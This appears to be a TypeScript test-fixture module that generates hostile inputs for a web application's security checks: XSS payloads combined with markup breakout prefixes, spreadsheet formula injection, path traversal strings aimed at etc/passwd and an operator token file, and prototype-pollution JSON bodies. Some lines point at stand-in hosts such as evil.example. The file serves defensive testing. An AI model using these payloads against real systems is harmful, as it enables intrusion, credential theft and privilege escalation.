/** What a browser runs where a page takes a name for markup, in each of the ways out of its place. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math href=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0>',
  '<link rel=stylesheet href=//e.example>',
  '<style>@import"//e.example"</style>',
  '<form action=//e.example><button>',
  '<template><img src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=cmd|"/c calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)',
];
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '"/>',
  '*/',
  '//',
  ' ',
];
const NAME_CHARACTERS = 60;

/** Names that a site file may have and that no page may take for anything else. */
export const HOSTILE_NAMES: readonly string[] = [
  ...new Set(SCRIPTS.flatMap((script) => WAYS_OUT.map((out) => `${out}${script}`.trim()))),
].filter((name) => name.length <= NAME_CHARACTERS);

const UP = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '..\\',
  '%252e%252e/',
  '..;/',
  '....//',
  '%c0%ae%c0%ae/',
];
const PLACES = ['/', '/assets/', '/tiles/', '/m/', '/api/v1/lots/', '/embed/'];
const AIMS = ['etc/passwd', 'operator.token', 'operations/operations.sqlite'];

/** Ways from each folder that is served to what is not. */
export const HOSTILE_WAYS: readonly string[] = PLACES.flatMap((place) =>
  UP.flatMap((up) =>
    [1, 4, 8].flatMap((depth) => AIMS.map((aim) => `${place}${up.repeat(depth)}${aim}`)),
  ),
);

const KEYS = ['__proto__', 'constructor', 'prototype', '__defineGetter__', 'toString'];
const VALUES = ['{"isAdmin":true}', 'null', '[]', '"x"', '{"__proto__":{"isAdmin":true}}'];
const SHAPES: readonly ((pair: string) => string)[] = [
  (pair) => `{${pair}}`,
  (pair) => `{"name":"kim","role":"viewer",${pair}}`,
  (pair) => `{"name":{${pair}},"role":"viewer"}`,
  (pair) => `[{${pair}}]`,
];

/** Bodies that mean to change what every object has. */
export const HOSTILE_BODIES: readonly string[] = KEYS.flatMap((key) =>
  VALUES.flatMap((value) => SHAPES.map((shape) => shape(`"${key}":${value}`))),
);
